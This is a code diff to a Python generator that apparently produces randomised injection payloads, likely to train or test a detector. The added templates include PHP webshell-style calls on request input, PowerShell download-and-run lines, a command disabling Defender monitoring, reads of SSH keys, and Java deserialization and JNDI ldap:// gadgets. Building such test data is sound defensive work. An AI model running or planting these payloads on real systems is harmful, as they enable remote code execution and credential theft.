@@ -81,7 +81,15 @@ def _windows(rng: random.Random) -> str:
     return f"{pick(rng, ('', '127.0.0.1', 'x', rand_ident(rng)))}{sep}{cmd}"
 
 
+_PHP_BARE = ("system", "exec", "shell_exec", "passthru", "popen", "proc_open", "pcntl_exec", "assert", "eval", "create_function", "call_user_func", "call_user_func_array", "preg_replace", "file_get_contents", "file_put_contents", "fopen", "fwrite", "base64_decode", "gzinflate", "gzuncompress", "gzdecode", "str_rot13", "phpinfo", "highlight_file", "show_source", "unserialize", "array_map", "ini_set", "ini_get_all", "putenv", "getenv", "move_uploaded_file", "chmod", "unlink", "posix_getpwuid", "get_defined_vars", "var_dump", "print_r", "extract", "parse_str", "include", "require", "mail", "curl_exec", "fsockopen", "dl", "symlink", "readfile")
+
+
 def _code_php(rng: random.Random) -> str:
+    if chance(rng, 0.35):
+        fn = pick(rng, _PHP_BARE)
+        gap = pick(rng, ("", "", " ", "/*x*/", "/**/", "\t", "  "))
+        arg = pick(rng, ("", "", "$_GET['x']", "'id'", "$_POST[0]", "1", "'/etc/passwd'", "$x", "base64_decode($_REQUEST['c'])"))
+        return f"{fn}{gap}({arg}){pick(rng, ('', ';', ';?>', ' ?>'))}"
     cmd = _fill(rng, pick(rng, ("id", "whoami", "ls -la", "cat /etc/passwd", "uname -a", "curl {host}")))
     fn = pick(rng, ("system", "exec", "shell_exec", "passthru", "popen", "proc_open", "pcntl_exec", "assert", "eval", "create_function", "call_user_func", "preg_replace", "include", "require_once", "file_get_contents", "fopen", "base64_decode", "str_rot13", "phpinfo", "highlight_file", "show_source", "file_put_contents", "unserialize", "array_map", "usort"))
     forms = (
@@ -156,8 +164,66 @@ def _shellshock(rng: random.Random) -> str:
     return f"{prefix}{head}{body}{tail} {cmd}"
 
 
+_WIN_DIRS = ("c:\\windows", "%temp%", "%userprofile%")
+_WIN_FILES = ("c:\\boot.ini", "%temp%\\x.txt", "C:\\Windows\\win.ini", "$env:USERPROFILE\\.ssh\\id_rsa")
+
+
+def _bare(rng: random.Random) -> str:
+    """A command line on its own: parameters handed whole to a shell or interpreter."""
+    roll = rng.random()
+    if roll < 0.55:
+        cmd = _fill(rng, pick(rng, _BINARIES))
+        return _obfuscate(rng, cmd) if chance(rng, 0.3) else cmd
+    if roll < 0.8:
+        var = pick(rng, ("%a", "%%a", "%i", "%%G", "%v", "%%A"))
+        body = _fill(rng, pick(rng, ("echo {tok}", "type {word}.txt", "del {word}", "ping {host}", "cmd /c {word}", "call {word}.bat", "@echo {tok}")))
+        return pick(rng, (
+            f"for /f \"tokens={rng.randint(1, 3)}-{rng.randint(3, 5)}\" {var} in ('{_fill(rng, pick(rng, ('dir /b', 'whoami', 'type {word}.txt', 'net user')))}') do {body}",
+            f"for /l {var} in ({rng.randint(0, 3)},1,{rng.randint(4, 99)}) do {body}",
+            f"for {var} in (*.{pick(rng, ('txt', 'exe', 'bat', 'log'))}) do {body}",
+            f"if exist {pick(rng, _WIN_DIRS)} {body}",
+            f"if \"%{rand_ident(rng)}%\" {pick(rng, ('gtr', 'equ', 'neq', 'lss'))} \"%{rand_ident(rng)}%\" {body}",
+            f"set /p {rand_ident(rng)}=<{pick(rng, _WIN_FILES)} & {body}",
+        ))
+    return pick(rng, (
+        f"powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://{rand_host(rng)}/{rand_ident(rng)}.ps1')\"",
+        f"Invoke-Expression (iwr http://{rand_host(rng)}/{rand_ident(rng)}).Content",
+        f"Start-Process {pick(rng, ('calc.exe', 'cmd.exe', 'powershell.exe'))} {pick(rng, ('', '-ArgumentList /c whoami'))}",
+        f"Get-Content {pick(rng, _WIN_FILES)}",
+        f"[System.Diagnostics.Process]::Start('{pick(rng, ('cmd', 'calc'))}')",
+        f"Set-MpPreference -DisableRealtimeMonitoring $true",
+    ))
+
+
+_JAVA_PACKAGES = ("java.lang", "java.io", "java.net", "java.nio.file", "java.util", "javax.script", "javax.naming", "javax.management", "java.lang.reflect", "org.apache.commons.collections.functors", "org.apache.commons.collections4.functors", "com.sun.rowset", "com.sun.org.apache.xalan.internal.xsltc.trax", "org.springframework.beans.factory.config", "org.codehaus.groovy.runtime", "bsh", "ognl", "sun.misc", "java.beans", "org.mozilla.javascript")
+_JAVA_CLASSES = ("Runtime", "ProcessBuilder", "System", "Class", "ClassLoader", "Thread", "Method", "Constructor", "FileOutputStream", "FileInputStream", "ObjectInputStream", "ObjectOutputStream", "ByteArrayOutputStream", "ByteArrayInputStream", "FilterOutputStream", "BufferedReader", "InputStreamReader", "PrintWriter", "URLClassLoader", "Socket", "URL", "InitialContext", "ScriptEngineManager", "InvokerTransformer", "ChainedTransformer", "ConstantTransformer", "InstantiateTransformer", "JdbcRowSetImpl", "TemplatesImpl", "MethodInvoker", "ConvertedClosure", "Interpreter", "OgnlContext", "Unsafe", "XMLDecoder", "Files", "Paths", "Base64", "Field", "Proxy")
+_JAVA_METHODS = ("getRuntime().exec", "exec", "start", "forName", "getMethod", "invoke", "newInstance", "getDeclaredConstructor", "loadClass", "defineClass", "lookup", "readObject", "eval", "readAllBytes", "getProperty", "setAccessible", "getEngineByName", "exit", "load", "write")
+
+
+def _java(rng: random.Random) -> str:
+    pkg = pick(rng, _JAVA_PACKAGES)
+    cls = pick(rng, _JAVA_CLASSES)
+    roll = rng.random()
+    if roll < 0.35:
+        return f"{pkg}.{cls}" if chance(rng, 0.7) else f"{cls}.class"
+    if roll < 0.6:
+        arg = pick(rng, ("", '"id"', "'whoami'", '"/bin/sh"', "null", '"ldap://' + rand_host(rng) + '/a"', "new String[]{\"sh\",\"-c\",\"id\"}", '"' + pkg + "." + pick(rng, _JAVA_CLASSES) + '"'))
+        return f"{pkg}.{cls}.{pick(rng, _JAVA_METHODS)}({arg})"
+    if roll < 0.75:
+        return f"new {pkg}.{cls}({pick(rng, ('', chr(34) + '/tmp/' + rand_ident(rng) + chr(34), chr(34) + 'id' + chr(34)))})"
+    if roll < 0.9:
+        # a Java serialization stream: magic bytes, then a class descriptor
+        import base64
+
+        blob = b"\xac\xed\x00\x05sr" + bytes([0, len(pkg) + len(cls) + 1]) + f"{pkg}.{cls}".encode() + bytes(rng.getrandbits(8) for _ in range(rng.randint(8, 40)))
+        return base64.b64encode(blob).decode() if chance(rng, 0.7) else blob.hex()
+    return f"{{\"@type\":\"{pkg}.{cls}\",\"{pick(rng, ('dataSourceName', 'autoCommit', 'outputProperties', 'command'))}\":\"{pick(rng, ('ldap://' + rand_host(rng) + '/a', 'true', 'id'))}\"}}"
+
+
 _FAMILIES: tuple[tuple[str, Family, float], ...] = (
     ("separator", _injection, 5.0),
+    ("bare", _bare, 2.0),
+    ("java", _java, 2.0),
     ("substitution", _substitution, 1.5),
     ("windows", _windows, 1.0),
     ("php_code", _code_php, 2.0),
